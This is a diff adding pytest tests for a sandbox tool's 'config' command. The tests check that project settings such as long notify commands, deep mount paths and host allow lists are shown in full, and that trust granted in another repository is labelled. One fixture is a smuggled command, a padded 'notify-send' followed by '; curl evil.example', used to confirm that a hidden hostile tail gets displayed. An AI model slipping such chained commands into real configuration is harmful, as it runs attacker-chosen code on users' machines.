@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 from pathlib import Path
 
 import pytest
 
 from git_sandbox import projectfile, registry, settings
+from git_sandbox.cli import config, configured
 from git_sandbox.cli.main import main
 from git_sandbox.git.repo import discover
 from git_sandbox.image import spec
@@ -105,3 +107,52 @@ def test_json_of_config_has_no_content_of_files(trusted: GitRepo, capsys: pytest
     assert json.loads(said)["status"] == "ok"
     assert "A=1" not in said
     assert "curl" not in said
+
+
+def test_the_first_look_shows_all_of_what_is_asked_for(
+    repo: GitRepo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A command of this host with its harm at the end, the thirteenth name, a mount far away: in both first looks."""
+    monkeypatch.chdir(repo.path)
+    notify = f"notify-send {'x' * 1500} ; curl evil.example"
+    mount = f"/{'deep/' * 300}end"
+    names = [f"{'x' * 60}{number}.example" for number in range(30)]
+    content = f'notify = "{notify}"\nmount = ["{mount}"]\nallow = {json.dumps(names)}\nkey = {json.dumps(names)}\n'
+    (repo.path / "sandbox.toml").write_text(content)
+    configured.resolved(discover(repo.path))
+    first = capsys.readouterr().err
+    assert main(["config"]) == 0
+    for shown in (first, capsys.readouterr().out):
+        for each in (notify, mount, " ".join(names)):
+            assert each in shown
+        assert shown.count(names[-1]) >= 2
+    (repo.path / "sandbox.toml").write_text('notify = "true"\n')
+    assert main(["config", "--trust"]) == 0
+    (repo.path / "sandbox.toml").write_text(content)
+    capsys.readouterr()
+    assert main(["config"]) == 0
+    shown = capsys.readouterr().out
+    assert f"+notify = {notify}\n" in shown
+    assert "in another repository" not in shown
+
+
+def test_another_repository_is_named_only_where_it_was_one(
+    trusted: GitRepo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def said() -> str:
+        capsys.readouterr()
+        assert main(["config"]) == 0
+        return capsys.readouterr().out
+
+    spaced = trusted.path / "sandbox.toml"
+    spaced.write_text(f'{NAMING}exclude = "a b"\n')
+    assert main(["config", "--trust"]) == 0
+    spaced.write_text(f'{NAMING}exclude = "a  b"\n')
+    assert "does not show" in said()
+    assert "another repository" not in said()
+    spaced.write_text(f'{NAMING}exclude = "a b"\n')
+    assert "(trusted)" in said()
+    elsewhere = dataclasses.replace(registry.consent(discover(trusted.path)), identity=lambda: "0" * 32)
+    found = projectfile.read(trusted.path, elsewhere)
+    assert found is not None
+    assert config._project(found)[1:] == ["you trusted it in another repository"]
